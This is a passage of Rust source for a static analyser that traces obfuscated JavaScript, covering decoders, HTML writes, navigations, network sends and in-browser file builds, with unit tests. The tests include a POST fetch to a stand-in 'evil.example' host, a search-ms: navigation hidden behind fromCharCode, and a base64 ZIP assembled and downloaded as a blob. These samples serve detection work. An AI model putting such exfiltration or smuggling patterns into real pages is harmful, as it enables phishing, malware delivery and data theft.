                        complete: false,
                    });
                }
                return flags;
            }
            (_, "write" | "writeln") if on_document || path.is_empty() => {
                let mut args = args.into_iter();
                let mut all = args.next().unwrap_or_default();
                for a in args {
                    all = self.concat(all, a);
                }
                self.written("document.write", &all);
                return Value::unknown();
            }
            (_, "insertAdjacentHTML") => {
                self.written("insertAdjacentHTML", &arg(1));
                return Value::unknown();
            }
            ([], "open") | (["document"], "open") if !args.is_empty() => {
                self.navigate(&arg(0));
                return flags;
            }
            (_, "open") if args.len() >= 2 => {
                // XMLHttpRequest.open(method, url).
                self.send(&arg(1));
                return flags;
            }
            (_, "replace" | "assign") if on_location => {
                self.navigate(&arg(0));
                return flags;
            }
            ([], "fetch") | (_, "sendBeacon") => {
                self.send(&arg(0));
                return flags;
            }
            (["$" | "jQuery" | "axios"], "ajax" | "post" | "get" | "request") => {
                let a = arg(0);
                match &a.data {
                    Data::Object(fields) => {
                        let url = fields
                            .iter()
                            .find(|(k, _)| k == "url")
                            .map(|(_, v)| v.clone());
                        self.send(&url.unwrap_or_default());
                    }
                    _ => self.send(&a),
                }
                return flags;
            }
            (_, "msSaveOrOpenBlob" | "msSaveBlob") => {
                let blob = arg(0);
                let file_name = arg(1).as_text().map(str::to_string);
                match blob.data {
                    Data::Blob(i) => {
                        if let Some(b) = self.ctx.facts.builds.get_mut(i) {
                            b.sink = "msSaveOrOpenBlob";
                            b.name = b.name.take().or(file_name);
                        }
                    }
                    _ => {
                        self.build("msSaveOrOpenBlob", &blob, None, file_name);
                    }
                }
                return Value::unknown();
            }
            (["URL" | "webkitURL"], "createObjectURL") => return arg(0),
            (["Uint8Array"], "from") => return to_bytes(&arg(0)),
            _ => {}
        }
        // A method that changes the array or object it is called on.
        if matches!(
            name,
            "push" | "unshift" | "splice" | "fill" | "set" | "concat"
        ) && let [var] = path.as_slice()
            && let Some(old) = self.ctx.vars.get(*var).cloned()
            && !matches!(old.data, Data::Text(_))
        {
            self.ctx.vars.insert(
                var.to_string(),
                args.iter().fold(old.opaque(), |a, v| a.taint(v)),
            );
        }
        // A method of a value.
        let text = receiver.as_text();
        match (&receiver.data, name) {
            (Data::Text(_), "toString" | "valueOf" | "trim" | "toLowerCase" | "toUpperCase") => {
                let s = text.unwrap_or_default();
                let out = match name {
                    "trim" => s.trim().to_string(),
                    "toLowerCase" => s.to_lowercase(),
                    "toUpperCase" => s.to_uppercase(),
                    _ => s.to_string(),
                };
                Value {
                    data: Data::Text(out),
                    ..receiver.clone()
                }
            }
            (Data::Text(s), "split") => match arg(0).as_text() {
                Some(sep) if self.ctx.charge(s.len()) && self.ctx.charge_items(s.len()) => {
                    let items: Vec<Value> = if sep.is_empty() {
                        s.chars().map(|c| Value::text(c.to_string())).collect()
                    } else {
                        s.split(sep).map(|p| Value::text(p.to_string())).collect()
                    };
                    Value {
                        data: Data::Array(items),
                        ..receiver.clone()
                    }
                }
                _ => flags,
            },
            (Data::Text(s), "replace" | "replaceAll") => {
                let (a, b) = (arg(0), arg(1));
                match (&a.data, b.as_text()) {
                    (Data::Text(from), Some(to)) => {
                        let out = if name == "replace" {
                            s.replacen(from.as_str(), to, 1)
                        } else {
                            s.replace(from.as_str(), to)
                        };
                        Value {
                            data: Data::Text(out),
                            ..receiver.clone()
                        }
                    }
                    // A regular expression, usually taking out the junk a
                    // decoder skips anyway: read as no change, inexactly.
                    (Data::Regex, _) => Value {
                        exact: false,
                        ..receiver.clone()
                    },
                    _ => flags,
                }
            }
            (Data::Text(s), "concat") => {
                let mut v = Value::text(s.clone());
                v.decoder = receiver.decoder;
                v.large = receiver.large;
                for a in args {
                    v = self.concat(v, a);
                }
                v
            }
            (Data::Text(s), "slice" | "substring" | "substr") => {
                let chars: Vec<char> = s.chars().collect();
                let n = chars.len() as i64;
                let num = |v: Option<&Value>| match v.map(|v| &v.data) {
                    Some(Data::Num(x)) => Some(*x as i64),
                    _ => None,
                };
                let (a, b) = (num(args.first()), num(args.get(1)));
                let Some(a) = a else { return flags };
                let clamp = |x: i64| {
                    if x < 0 && name != "substring" {
                        (n + x).max(0)
                    } else {
                        x.clamp(0, n)
                    }
                };
                let start = clamp(a);
                let end = match (name, b) {
                    ("substr", Some(len)) => (start + len.max(0)).min(n),
                    (_, Some(e)) => clamp(e),
                    (_, None) => n,
                };
                let (lo, hi) = (start.min(end), start.max(end));
                let out: String = chars[lo as usize..hi as usize].iter().collect();
                Value {
                    data: Data::Text(out),
                    ..receiver.clone()
                }
            }
            (Data::Array(items), "join") => {
                let sep = match args.first().map(|v| &v.data) {
                    None => ",".to_string(),
                    Some(_) => arg(0).as_text().unwrap_or(",").to_string(),
                };
                let parts: Option<Vec<String>> = items.iter().map(Value::to_text).collect();
                let decoder = items.iter().find_map(|v| v.decoder).or(receiver.decoder);
                match parts {
                    Some(p) if self.ctx.charge(p.iter().map(String::len).sum()) => Value {
                        data: Data::Text(p.join(&sep)),
                        decoder,
                        large: receiver.large,
                        exact: receiver.exact,
                        length_of: None,
                    },
                    _ => flags,
                }
            }
            (Data::Array(items), "reverse") => {
                let mut items = items.clone();
                items.reverse();
                Value {
                    data: Data::Array(items),
                    ..receiver.clone()
                }
            }
            (Data::Array(items), "map") => match arg(0).data {
                Data::Function { char_code: true } => {
                    let chars: Option<Vec<Value>> = items
                        .iter()
                        .map(|v| match v.data {
                            Data::Num(n) => Some(Value::text(code_unit_text(&[n]))),
                            _ => None,
                        })
                        .collect();
                    match chars {
                        Some(c) => Value {
                            data: Data::Array(c),
                            decoder: Some("String.fromCharCode"),
                            large: receiver.large,
                            exact: true,
                            length_of: None,
                        },
                        None => Value {
                            decoder: Some("String.fromCharCode"),
                            ..flags
                        },
                    }
                }
                _ => flags,
            },
            _ => flags,
        }
    }

    /// A decoder applied to `arg`: its result when `arg` is text, an
    /// unknown value that remembers the decoder otherwise.
    fn decoded(
        &mut self,
        decoder: &'static str,
        arg: &Value,
        f: impl Fn(&str) -> Option<String>,
    ) -> Value {
        let out = arg.as_text().and_then(&f);
        match out {
            Some(s) if self.ctx.charge(s.len()) => {
                self.literal_reaches(&s);
                Value {
                    data: Data::Text(s),
                    decoder: arg.decoder.or(Some(decoder)),
                    large: arg.large,
                    exact: arg.exact,
                    length_of: None,
                }
            }
            _ => Value {
                decoder: arg.decoder.or(Some(decoder)),
                large: arg.large,
                ..Value::default()
            },
        }
    }

    fn from_char_code(&mut self, args: &[Value]) -> Value {
        let mut codes = Vec::new();
        let mut large = false;
        for a in args {
            match &a.data {
                Data::Num(n) => codes.push(*n),
                // `String.fromCharCode(a[i])` in a loop over `a`: the
                // loop's result, read once.
                Data::ElementOf(all) => {
                    codes.extend_from_slice(all);
                    large |= a.large || all.len() >= LARGE;
                }
                Data::Array(items) => {
                    for v in items {
                        match v.data {
                            Data::Num(n) => codes.push(n),
                            _ => {
                                return Value {
                                    decoder: Some("String.fromCharCode"),
                                    ..Value::default()
                                };
                            }
                        }
                    }
                }
                _ => {
                    return Value {
                        decoder: a.decoder.or(Some("String.fromCharCode")),
                        large: a.large,
                        ..Value::default()
                    };
                }
            }
        }
        if !self.ctx.charge(codes.len()) {
            return Value {
                decoder: Some("String.fromCharCode"),
                ..Value::default()
            };
        }
        let s = code_unit_text(&codes);
        self.literal_reaches(&s);
        Value {
            data: Data::Text(s),
            decoder: Some("String.fromCharCode"),
            large: large || codes.len() >= LARGE,
            exact: true,
            length_of: None,
        }
    }

    fn assign(&mut self, path: &[String], v: Value, append: bool) {
        let path: Vec<&str> = path
            .iter()
            .map(String::as_str)
            .skip_while(|p| matches!(*p, "window" | "self" | "top" | "parent" | "globalThis"))
            .collect();
        let last = path.last().copied().unwrap_or("");
        match (path.as_slice(), last) {
            ([name], _) if *name != "location" => {
                let _ = append;
                self.ctx.vars.insert(name.to_string(), v);
            }
            (_, "innerHTML" | "outerHTML") => self.written("innerHTML", &v),
            (_, "srcdoc") => self.written("srcdoc", &v),
            (_, "location") => self.navigate(&v),
            (_, "href" | "src") => self.navigate(&v),
            (_, "action") => self.send(&v),
            (_, "download") => {
                if let Some(n) = v.as_text() {
                    let n = n.to_string();
                    match self.ctx.facts.builds.last_mut() {
                        Some(b) if b.name.is_none() => b.name = Some(n),
                        _ => self.ctx.pending_name = Some(n),
                    }
                }
            }
            ([base, .., "[]"], _) => {
                // `a[i] = d.charCodeAt(i)`: `a` now holds what `d` held.
                if let Some(old) = self.ctx.vars.get(*base).cloned()
                    && !old.known()
                {
                    self.ctx.vars.insert(base.to_string(), old.taint(&v));
                }
            }
            _ => {}
        }
    }

    fn written(&mut self, sink: &'static str, v: &Value) {
        let decoded = v.decoder.is_some();
        let empty = v.as_text().is_some_and(str::is_empty);
        if (!v.known() || empty) && !decoded {
            return;
        }
        if self.ctx.facts.written.len() >= 64 {
            return;
        }
        self.ctx.facts.written.push(Written {
            html: v.to_text().unwrap_or_default(),
            through: v.decoder.unwrap_or(sink),
            decoded,
            complete: v.known() && v.exact,
        });
    }

    fn navigate(&mut self, v: &Value) {
        match &v.data {
            Data::Text(s) => {
                if s.trim_start().to_ascii_lowercase().starts_with("data:") {
                    let (mime, bytes, base64) = data_url(s);
                    let name = self.ctx.pending_name.take();
                    if mime.starts_with("text/html") || mime.starts_with("image/svg") {
                        self.written(
                            "data: URL",
                            &Value {
                                data: Data::Text(String::from_utf8_lossy(&bytes).into_owned()),
                                ..v.clone()
                            },
                        );
                    } else if self.ctx.facts.builds.len() < 64 {
                        self.ctx.facts.builds.push(Build {
                            sink: "data: URL",
                            bytes: Some(bytes),
                            decoder: v.decoder.or(base64.then_some("base64")),
                            large: v.large,
                            mime: Some(mime),
                            name,
                        });
                    }
                } else {
                    self.navigation(s);
                }
            }
            Data::Blob(i) => {
                if let (Some(b), Some(n)) = (
                    self.ctx.facts.builds.get_mut(*i),
                    self.ctx.pending_name.take(),
                ) {
                    b.name = b.name.take().or(Some(n));
                }
            }
            _ => {}
        }
    }

    /// Records an address the script goes to, once.
    fn navigation(&mut self, url: &str) {
        let list = &mut self.ctx.facts.navigations;
        if list.len() < 64 && !list.iter().any(|u| u == url) {
            list.push(url.to_string());
        }
    }

    fn send(&mut self, v: &Value) {
        match v.as_text() {
            Some(s) if self.ctx.facts.sends.len() < 64 => self.ctx.facts.sends.push(s.to_string()),
            Some(_) => {}
            None => self.ctx.facts.sends_unknown = true,
        }
    }

    fn nested_script(&mut self, code: &str) {
        if self.depth + 1 > MAX_EVAL_DEPTH {
            return;
        }
        self.ctx.read_at(code, self.depth + 1);
    }
}

/// A property of a value: `length` of a text remembers the text (for
/// `new Uint8Array(s.length)`); anything else is unknown, with the flags.
fn property(v: &Value, name: &str) -> Value {
    match (name, &v.data) {
        ("length", Data::Text(_)) => Value {
            length_of: Some(Box::new(v.clone())),
            decoder: v.decoder,
            large: v.large,
            ..Value::default()
        },
        (_, Data::Object(fields)) => fields
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, x)| x.clone())
            .unwrap_or_else(|| v.opaque()),
        _ => v.opaque(),
    }
}

/// `new Uint8Array(x)`: bytes from an array of numbers, from a text (each
/// character's code, as the `charCodeAt` loop that follows fills it), or
/// from `s.length` (the same loop over `s`).
fn to_bytes(v: &Value) -> Value {
    let text = v.length_of.as_deref().unwrap_or(v);
    let bytes: Option<Vec<u8>> = match &text.data {
        Data::Text(s) => Some(s.chars().map(|c| c as u32 as u8).collect()),
        Data::Array(items) => items
            .iter()
            .map(|x| match x.data {
                Data::Num(n) => Some(n as i64 as u8),
                _ => None,
            })
            .collect(),
        Data::Bytes(b) => Some(b.clone()),
        _ => None,
    };
    match bytes {
        Some(b) => Value {
            data: Data::Bytes(b),
            decoder: text.decoder,
            large: text.large,
            exact: text.exact,
            length_of: None,
        },
        None => text.opaque(),
    }
}

/// Whether a literal is a large embedded string: [`LARGE`] characters or
/// more, nearly all of an encoding alphabet, and not a picture or a font
/// (a logo in base64 is no payload).
fn large_literal(s: &str) -> bool {
    if s.len() < LARGE {
        return false;
    }
    let lower = s.get(..16).unwrap_or("").to_ascii_lowercase();
    if lower.starts_with("data:image/") || lower.starts_with("data:font/") {
        return false;
    }
    let alphabet = s
        .bytes()
        .filter(|b| {
            b.is_ascii_alphanumeric()
                || matches!(b, b'+' | b'/' | b'=' | b'%' | b',' | b'-' | b'_' | b'\\')
        })
        .count();
    if alphabet * 100 < s.len() * 95 {
        return false;
    }
    let head: Vec<u8> = s
        .bytes()
        .take(96)
        .filter(|b| !b.is_ascii_whitespace())
        .collect();
    let decoded = lenient_base64(&head);
    let picture = infer::get(&decoded).is_some_and(|t| {
        matches!(
            t.matcher_type(),
            infer::MatcherType::Image
                | infer::MatcherType::Font
                | infer::MatcherType::Audio
                | infer::MatcherType::Video
        )
    });
    !picture
}

/// UTF-16 code units to text, surrogate pairs joined, lone ones replaced.
fn code_unit_text(codes: &[f64]) -> String {
    let units: Vec<u16> = codes
        .iter()
        .map(|&n| (n as i64 as u32 & 0xffff) as u16)
        .collect();
    char::decode_utf16(units)
        .map(|r| r.unwrap_or('\u{fffd}'))
        .collect()
}

/// `unescape` (ECMA-262 B.2.1.2): `%XX` and `%uXXXX` to characters.
fn unescape(s: &str) -> String {
    let b = s.as_bytes();
    let mut units: Vec<u16> = Vec::with_capacity(s.len());
    let hex = |x: &[u8]| -> Option<u16> {
        let t = std::str::from_utf8(x).ok()?;
        u16::from_str_radix(t, 16).ok()
    };
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' {
            if b.get(i + 1) == Some(&b'u')
                && let Some(u) = b.get(i + 2..i + 6).and_then(hex)
            {
                units.push(u);
                i += 6;
                continue;
            }
            if let Some(u) = b.get(i + 1..i + 3).and_then(hex) {
                units.push(u);
                i += 3;
                continue;
            }
        }
        let c = s[i..].chars().next().unwrap_or('\u{fffd}');
        let mut buf = [0u16; 2];
        units.extend_from_slice(c.encode_utf16(&mut buf));
        i += c.len_utf8();
    }
    char::decode_utf16(units)
        .map(|r| r.unwrap_or('\u{fffd}'))
        .collect()
}

/// `escape` (ECMA-262 B.2.1.1).
fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for unit in s.encode_utf16() {
        match unit {
            u if u < 128
                && ((u as u8).is_ascii_alphanumeric() || b"@*_+-./".contains(&(u as u8))) =>
            {
                out.push(u as u8 as char)
            }
            u if u < 256 => out.push_str(&format!("%{u:02X}")),
            u => out.push_str(&format!("%u{u:04X}")),
        }
    }
    out
}

/// `decodeURIComponent` (ECMA-262 §19.2.6.2): `%XX` sequences as UTF-8,
/// read leniently (an invalid sequence becomes U+FFFD where a browser would
/// throw).
fn decode_uri(s: &str) -> String {
    String::from_utf8_lossy(&percent_bytes(s)).into_owned()
}

/// A `data:` URL's type, bytes and whether they were base64 (RFC 2397;
/// Fetch Standard §4.6, "data: URL processor"): percent-decoded, then
/// base64-decoded when it says so.
pub(crate) fn data_url(url: &str) -> (String, Vec<u8>, bool) {
    let u = target::clean(url);
    let rest = u.get(5..).unwrap_or("");
    let (head, body) = rest.split_once(',').unwrap_or((rest, ""));
    let head_l = head.to_ascii_lowercase();
    let base64 = head_l.trim_end().ends_with(";base64");
    let mime = head_l.split(';').next().unwrap_or("").trim().to_string();
    let mime = if mime.is_empty() {
        "text/plain".to_string()
    } else {
        mime
    };
    let raw = percent_bytes(body);
    let bytes = if base64 {
        let clean: Vec<u8> = raw
            .into_iter()
            .filter(|b| !b.is_ascii_whitespace())
            .collect();
        lenient_base64(&clean)
    } else {
        raw
    };
    (mime, bytes, base64)
}

/// `%XX` sequences to bytes, everything else as it is.
pub(crate) fn percent_bytes(s: &str) -> Vec<u8> {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%'
            && let Some(v) = b
                .get(i + 1..i + 3)
                .and_then(|x| std::str::from_utf8(x).ok())
                .and_then(|x| u8::from_str_radix(x, 16).ok())
        {
            out.push(v);
            i += 3;
            continue;
        }
        out.push(b[i]);
        i += 1;
    }
    out
}

/// A quoted string literal starting at `start`: its value and the end.
fn string_literal(src: &str, start: usize) -> (String, usize) {
    let b = src.as_bytes();
    let quote = b[start];
    let mut out = String::new();
    let mut units: Vec<u16> = Vec::new();
    let flush = |units: &mut Vec<u16>, out: &mut String| {
        out.extend(char::decode_utf16(units.drain(..)).map(|r| r.unwrap_or('\u{fffd}')));
    };
    let mut i = start + 1;
    while i < b.len() {
        let c = b[i];
        if c == quote {
            flush(&mut units, &mut out);
            return (out, i + 1);
        }
        if c == b'\n' {
            break;
        }
        if c == b'\\' {
            let (unit, next) = escape_at(src, i);
            match unit {
                Escaped::Unit(u) => units.push(u),
                Escaped::Char(ch) => {
                    flush(&mut units, &mut out);
                    out.push(ch);
                }
                Escaped::Nothing => {}
            }
            i = next;
            continue;
        }
        flush(&mut units, &mut out);
        let ch = src[i..].chars().next().unwrap_or('\u{fffd}');
        out.push(ch);
        i += ch.len_utf8();
    }
    flush(&mut units, &mut out);
    (out, i)
}

enum Escaped {
    Unit(u16),
    Char(char),
    Nothing,
}

/// The escape sequence at `i` (a backslash), ECMA-262 §12.9.4.
fn escape_at(src: &str, i: usize) -> (Escaped, usize) {
    let b = src.as_bytes();
    let Some(&c) = b.get(i + 1) else {
        return (Escaped::Nothing, i + 1);
    };
    let hex = |from: usize, len: usize| -> Option<u32> {
        let t = src.get(from..from + len)?;
        if !t.bytes().all(|x| x.is_ascii_hexdigit()) {
            return None;
        }
        u32::from_str_radix(t, 16).ok()
    };
    match c {
        b'n' => (Escaped::Char('\n'), i + 2),
        b'r' => (Escaped::Char('\r'), i + 2),
        b't' => (Escaped::Char('\t'), i + 2),
        b'b' => (Escaped::Char('\u{8}'), i + 2),
        b'f' => (Escaped::Char('\u{c}'), i + 2),
        b'v' => (Escaped::Char('\u{b}'), i + 2),
        b'\r' => (
            Escaped::Nothing,
            if b.get(i + 2) == Some(&b'\n') {
                i + 3
            } else {
                i + 2
            },
        ),
        b'\n' => (Escaped::Nothing, i + 2),
        b'x' => match hex(i + 2, 2) {
            Some(v) => (Escaped::Unit(v as u16), i + 4),
            None => (Escaped::Char('x'), i + 2),
        },
        b'u' if b.get(i + 2) == Some(&b'{') => {
            let end = src[i + 3..].find('}').map(|e| i + 3 + e);
            match end.and_then(|e| hex(i + 3, e - (i + 3)).map(|v| (v, e))) {
                Some((v, e)) => (
                    Escaped::Char(char::from_u32(v).unwrap_or('\u{fffd}')),
                    e + 1,
                ),
                None => (Escaped::Char('u'), i + 2),
            }
        }
        b'u' => match hex(i + 2, 4) {
            Some(v) => (Escaped::Unit(v as u16), i + 6),
            None => (Escaped::Char('u'), i + 2),
        },
        b'0'..=b'7' => {
            // Legacy octal escapes (Annex B.1.2), up to \377.
            let mut v = 0u32;
            let mut j = i + 1;
            while j < b.len()
                && j < i + 4
                && (b'0'..=b'7').contains(&b[j])
                && v * 8 + ((b[j] - b'0') as u32) <= 0o377
            {
                v = v * 8 + (b[j] - b'0') as u32;
                j += 1;
            }
            (Escaped::Unit(v as u16), j)
        }
        _ => {
            let ch = src[i + 1..].chars().next().unwrap_or('\u{fffd}');
            (Escaped::Char(ch), i + 1 + ch.len_utf8())
        }
    }
}

/// A template literal: its text (the `${…}` parts left out), whether it
/// had any, and the end.
fn template_literal(src: &str, start: usize) -> (String, bool, usize) {
    let b = src.as_bytes();
    let mut out = String::new();
    let mut subst = false;
    let mut i = start + 1;
    while i < b.len() {
        match b[i] {
            b'`' => return (out, subst, i + 1),
            b'\\' => {
                let (e, next) = escape_at(src, i);
                match e {
                    Escaped::Unit(u) => out.push(char::from_u32(u as u32).unwrap_or('\u{fffd}')),
                    Escaped::Char(c) => out.push(c),
                    Escaped::Nothing => {}
                }
                i = next;
            }
            b'$' if b.get(i + 1) == Some(&b'{') => {
                subst = true;
                let mut depth = 0usize;
                i += 1;
                while i < b.len() {
                    match b[i] {
                        b'{' => depth += 1,
                        b'}' => {
                            depth -= 1;
                            if depth == 0 {
                                i += 1;
                                break;
                            }
                        }
                        _ => {}
                    }
                    i += 1;
                }
            }
            _ => {
                let ch = src[i..].chars().next().unwrap_or('\u{fffd}');
                out.push(ch);
                i += ch.len_utf8();
            }
        }
    }
    (out, subst, i)
}

/// A numeric literal: its value and the end.
fn number(src: &str, start: usize) -> (f64, usize) {
    let b = src.as_bytes();
    let mut i = start;
    if b[i] == b'0' && matches!(b.get(i + 1), Some(b'x' | b'X' | b'o' | b'O' | b'b' | b'B')) {
        let radix = match b[i + 1] | 0x20 {
            b'x' => 16,
            b'o' => 8,
            _ => 2,
        };
        i += 2;
        let from = i;
        while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
            i += 1;
        }
        let digits: String = src[from..i]
            .chars()
            .filter(|c| *c != '_' && *c != 'n')
            .collect();
        return (
            u64::from_str_radix(&digits, radix).map_or(f64::NAN, |v| v as f64),
            i,
        );
    }
    while i < b.len() && (b[i].is_ascii_digit() || matches!(b[i], b'.' | b'_')) {
        i += 1;
    }
    if i < b.len() && (b[i] | 0x20) == b'e' {
        let mut j = i + 1;
        if j < b.len() && matches!(b[j], b'+' | b'-') {
            j += 1;
        }
        if j < b.len() && b[j].is_ascii_digit() {
            i = j;
            while i < b.len() && b[i].is_ascii_digit() {
                i += 1;
            }
        }
    }
    let text: String = src[start..i].chars().filter(|c| *c != '_').collect();
    if i < b.len() && b[i] == b'n' {
        i += 1;
    }
    (text.parse().unwrap_or(f64::NAN), i)
}

/// The end of a regular expression literal starting at `start`, if one
/// ends on its line.
fn regex_end(b: &[u8], start: usize) -> Option<usize> {
    let mut i = start + 1;
    let mut class = false;
    while i < b.len() {
        match b[i] {
            b'\n' | b'\r' => return None,
            b'\\' => i += 1,
            b'[' => class = true,
            b']' => class = false,
            b'/' if !class => {
                i += 1;
                while i < b.len() && b[i].is_ascii_alphabetic() {
                    i += 1;
                }
                return Some(i);
            }
            _ => {}
        }
        i += 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(src: &str) -> Facts {
        let mut c = Context::default();
        c.read(src);
        c.facts
    }

    #[test]
    fn decoders_follow_plain_data() {
        let f = read("var d = 'PGZvcm0+'; document.write(decodeURIComponent(escape(atob(d))));");
        assert_eq!(f.written[0].html, "<form>");
        assert_eq!(f.written[0].through, "atob");
        assert!(f.written[0].complete);
        let f = read("document.write(unescape('%3Cb%3E%u00e9'))");
        assert_eq!(f.written[0].html, "<b>é");
        let f = read(
            "eval(String.fromCharCode(108,111,99,97,116,105,111,110,61,39,115,101,97,114,99,104,45,109,115,58,120,39))",
        );
        assert_eq!(f.navigations, ["search-ms:x"]);
        let f = read(
            "var a=[60,105,62]; var s=''; for (var i=0;i<a.length;i++){ s += String.fromCharCode(a[i]); } document.body.innerHTML = s;",
        );
        assert_eq!(f.written[0].html, "<i>");
        let f = read(
            "x.innerHTML = [60,98,62].map(function(c){return String.fromCharCode(c)}).join('')",
        );
        assert_eq!(f.written[0].html, "<b>");
        let f = read("document.write('>p<'.split('').reverse().join(''))");
        assert_eq!(f.written[0].html, "<p>");
        let f = read(r#"document.write("\x3c\u0061\u{62}\141>")"#);
        assert_eq!(f.written[0].html, "<ab a>".replace(' ', ""));
    }

    #[test]
    fn unknown_input_keeps_its_decoder() {
        let f = read("var k = compute(); document.write(atob(k));");
        assert_eq!(f.written.len(), 1);
        assert!(!f.written[0].complete);
        assert!(f.written[0].decoded);
        let f = read("var rows = []; el.innerHTML = rows.join('');");
        assert!(f.written.is_empty(), "{:?}", f.written);
    }

    #[test]
    fn navigations_and_sends() {
        let f = read("window.location.href = 'search-ms:query=a&crumb=location:\\\\\\\\h\\\\s';");
        assert!(f.navigations.iter().any(|n| n.starts_with("search-ms:")));
        let f = read("setTimeout(function(){ location.replace('https://a.example/') }, 10)");
        assert_eq!(f.navigations, ["https://a.example/"]);
        let f = read(
            "fetch('https://evil.example/c', {method:'POST'}); $.ajax({url: 'https://x.example/p'});",
        );
        assert_eq!(f.sends, ["https://evil.example/c", "https://x.example/p"]);
        let f = read("if (location.protocol === 'file:') {}");
        assert!(f.navigations.is_empty());
    }

    #[test]
    fn builds() {
        let f = read(
            "var d = atob('UEsDBAo='); var a = new Uint8Array(d.length); for (var i = 0; i < d.length; i++) { a[i] = d.charCodeAt(i); } var b = new Blob([a], {type: 'application/zip'}); var l = document.createElement('a'); l.href = URL.createObjectURL(b); l.download = 'x.zip'; l.click();",
        );
        let b = &f.builds[0];
        assert_eq!(b.bytes.as_deref(), Some(&b"PK\x03\x04\x0a"[..]));
        assert_eq!(b.decoder, None, "small and known: its bytes decide");
        assert_eq!(b.name.as_deref(), Some("x.zip"));
        assert_eq!(b.mime.as_deref(), Some("application/zip"));
        let f = read(
            "var bom = new Uint8Array([0xEF, 0xBB, 0xBF]); var blob = new Blob([bom, lignes.join('\\r\\n')], { type: 'text/csv' });",
        );
        let b = &f.builds[0];
        assert_eq!(b.bytes, None);
        assert_eq!(b.decoder, None);
        assert!(!b.large);
        let f = read("navigator.msSaveOrOpenBlob(new Blob([x]), 'a.iso')");
        assert_eq!(f.builds[0].name.as_deref(), Some("a.iso"));
    }

    #[test]
    fn hostile_scripts_stay_bounded() {
        let deep = "(".repeat(100_000) + &"[".repeat(100_000) + &"{".repeat(100_000);
        read(&deep);
        let doubling: String = (0..40)
            .map(|i| format!("var a{} = a{} + a{};", i + 1, i, i))
            .collect();
        read(&format!("var a0 = '{}';{doubling}", "x".repeat(1000)));
        read("'unterminated");
        read("/* unterminated");
        read("`${ unterminated");
        read("\\u{");
        read("a.b.c[");
    }
}
